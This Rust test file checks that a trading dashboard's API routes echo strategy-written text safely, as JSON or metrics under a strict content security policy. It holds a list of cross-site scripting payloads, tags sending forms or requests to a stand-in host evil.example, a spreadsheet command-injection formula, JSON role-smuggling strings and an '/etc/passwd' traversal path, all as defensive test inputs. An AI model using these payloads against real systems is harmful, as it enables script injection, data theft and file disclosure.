//! Text that a strategy wrote, in every place where one can put it, over every
//! route: what comes is JSON or plain text that says exactly that text, under a
//! policy that runs nothing.

use axum::http::Method;
use serde_json::Value;

use super::*;
use crate::dashboard::hub::LaneHistory;
use crate::dashboard::model::{
    Event, Fill, Grant, Indicator, Level, Order, Parameter, Plot, Plots, Symbol, Trade,
};
use crate::dashboard::routes::routes;

/// What has made pages run or show something.
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<math><mtext></math><img src=x onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.example><input name=key></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example';</style>",
    "<object data=//evil.example>",
    "<embed src=//evil.example>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    "`${alert(1)}`",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u{2028}alert(1)\u{2029}",
    "__proto__",
    "constructor",
    "toString",
    "=cmd|' /C calc'!A0",
    "a\",\"role\":\"admin\",\"x\":\"",
    "\\\",\"role\":\"admin\"}",
    "name\"} 1\nsandpaper_running{x=\"",
    "\u{feff}<script>alert(1)</script>",
    "ｓｃｒｉｐｔ",
    "../../etc/passwd",
    "a/b?c=d#e",
];

/// Every payload alone, in quotes, behind a word, and in capitals: 200.
fn corpus() -> Vec<String> {
    let forms = |text: &&str| {
        [(*text).to_owned(), format!("\"{text}\""), format!("ok {text}"), text.to_uppercase()]
    };
    PAYLOADS.iter().flat_map(forms).collect()
}

/// A state and a past in which everything that can be `text` is.
fn publish(app: &App, text: &str) {
    let mut state = state(1);
    let symbol = Symbol {
        symbol: text.into(),
        bid: None,
        ask: None,
        last: None,
        spread_bps: None,
        status: text.into(),
        change_pct: None,
        intervals: vec![60],
    };
    let order = Order { reason: Some(text.into()), ..Order::new(1, text, "1".into()) };
    let lane = &mut state.lanes[0];
    lane.row.name = text.into();
    lane.row.version = text.into();
    lane.row.status_detail = Some(text.into());
    lane.indicators = vec![Indicator { name: text.into(), value: Some(1.0) }];
    lane.parameters = vec![Parameter { name: text.into(), value: text.into() }];
    lane.statistics.insert(text.into(), Some(text.into()));
    lane.orders_open = vec![order.clone()];
    lane.sandbox.last_fault = Some(text.into());
    lane.sandbox.imports = vec![text.into()];
    lane.sandbox.grant = Some(Grant { note: text.into(), ..Grant::default() });
    let plot = Plot { name: text.into(), values: vec![f64::NAN] };
    state.plots[0] = Arc::new(Plots { width_s: 1.0, ms: vec![1.0], series: vec![plot] });
    state.market = vec![symbol];
    state.books = vec![super::super::model::Book {
        symbol: text.into(),
        status: text.into(),
        bids: Vec::new(),
        asks: Vec::new(),
    }];
    state.tapes = vec![Vec::new()];
    state.candles = vec![crate::dashboard::hub::Candles { interval_s: 60, ..Default::default() }];
    state.run.best = Some(text.into());
    state.run.symbols = vec![text.into()];
    let event = Event { kind: text.into(), text: text.into(), ..Event::default() };
    let fill = fill(text);
    let mut past = LaneHistory::new(text.into());
    past.order(order);
    past.logs.push(event.clone());
    past.fills.push(fill.clone());
    past.trades.push(trade(text));
    past.levels.push(Level {
        ts_ns: text.into(),
        symbol: text.into(),
        stop: Some(text.into()),
        target: Some(text.into()),
    });
    let mut history = app.hub.history();
    history.events.push(Event { fill: Some(fill), ..event });
    history.lanes = vec![past];
    drop(history);
    app.hub.publish(state);
}

fn fill(text: &str) -> Fill {
    let text = || text.to_owned();
    Fill {
        id: 1,
        order: 1,
        strategy: text(),
        symbol: text(),
        action: text(),
        side: "buy".into(),
        quantity: "1".into(),
        price: "1".into(),
        fee: "0".into(),
        liquidity: "taker".into(),
        cause: text(),
        reason: text(),
        ts_ns: "1".into(),
        position: "1".into(),
    }
}

fn trade(text: &str) -> Trade {
    Trade {
        n: 1,
        symbol: text.into(),
        side: "long".into(),
        quantity: "1".into(),
        entry_ns: "1".into(),
        exit_ns: "2".into(),
        entry_price: None,
        exit_price: None,
        fees: "0".into(),
        pnl: "0".into(),
        pnl_pct: None,
        mae_pct: None,
        mfe_pct: None,
        duration_s: 1.0,
        exit_reason: text.into(),
    }
}

/// Text as it stands in a URL.
fn coded(text: &str) -> String {
    text.bytes()
        .map(|byte| match byte {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_' => char::from(byte).to_string(),
            _ => format!("%{byte:02X}"),
        })
        .collect()
}

/// Every text in a value.
fn texts<'a>(value: &'a Value, found: &mut Vec<&'a str>) {
    match value {
        Value::String(text) => found.push(text),
        Value::Array(items) => items.iter().for_each(|item| texts(item, found)),
        Value::Object(fields) => {
            for (name, field) in fields {
                found.push(name);
                texts(field, found);
            }
        }
        _ => {}
    }
}

/// What is wrong with an answer that tells of `text`, if anything.
fn fault(answer: &str, text: &str) -> Option<String> {
    let (head, body) = answer.split_once("\r\n\r\n")?;
    let head = head.to_lowercase();
    if !head.contains("\r\nx-content-type-options: nosniff")
        || !head.contains("\r\ncontent-security-policy: default-src 'none'")
    {
        return Some("no policy".into());
    }
    if head.contains("\r\ncontent-type: application/json") {
        let Ok(value) = serde_json::from_str::<Value>(body) else { return Some("no JSON".into()) };
        let mut found = Vec::new();
        texts(&value, &mut found);
        let role = value.get("role").is_some();
        return (!found.contains(&text) || role).then(|| "it says something else".into());
    }
    // Lines of metrics: the text is inside the quotes of a label.
    if head.contains("openmetrics-text") {
        let forged = body.lines().any(|line| line.starts_with("sandpaper_running{x="));
        return forged.then(|| "a line of its own".into());
    }
    Some("neither JSON nor metrics".into())
}

#[tokio::test(start_paused = true)]
async fn low_006_text_of_a_strategy_is_told_as_text_by_every_route() {
    let app = app();
    let body = |answer: String| answer.split_once("\r\n\r\n").map(|(_, body)| body.to_owned());
    let page = body(answer(&app, &request("GET", "/", "", "")).await);
    let tells = ["/api/v1/strategies/{name}/equity", "/api/v1/runs/{name}"];
    let mut tried = 0;
    for text in corpus() {
        publish(&app, &text);
        for route in routes() {
            let of_symbol = ["/api/v1/candles", "/api/v1/book", "/api/v1/tape"];
            let mut path = route.path.replace("{name}", &coded(&text));
            if of_symbol.contains(&route.path) {
                path = format!("{path}?symbol={}", coded(&text));
            }
            if route.method != Method::GET || route.path.contains("/ws") {
                continue;
            }
            let answer = answer(&app, &request("GET", &path, "", "")).await;
            assert!(status(&answer) < 500, "{path}: {answer}");
            // Some answers hold no text of anybody's: for these the head counts.
            let says = answer.contains("alert") && !tells.contains(&route.path);
            match fault(&answer, &text) {
                Some(wrong) if says || wrong != "it says something else" => {
                    panic!("{path}: {wrong}: {answer}")
                }
                _ => tried += 1,
            }
        }
        let again = body(answer(&app, &request("GET", "/", "", "")).await);
        assert_eq!(again, page, "the page never holds text");
    }
    assert!(tried > 4_000, "{tried}");
    // The control: text as markup, and text that breaks out of its quotes.
    let policy =
        "\r\nx-content-type-options: nosniff\r\ncontent-security-policy: default-src 'none'";
    let html = format!("HTTP/1.1 200 OK{policy}\r\ncontent-type: text/html\r\n\r\n<script>");
    assert!(fault(&html, "<script>").is_some());
    let json = format!("HTTP/1.1 200 OK{policy}\r\ncontent-type: application/json\r\n\r\n");
    assert!(fault(&format!("{json}{{\"a\":\"<script>\"}}"), "<script>").is_none());
    assert!(fault(&format!("{json}{{\"a\":\"a\",\"role\":\"admin\"}}"), "a").is_some());
    assert!(fault("HTTP/1.1 200 OK\r\n\r\n{}", "a").is_some(), "no policy");
}
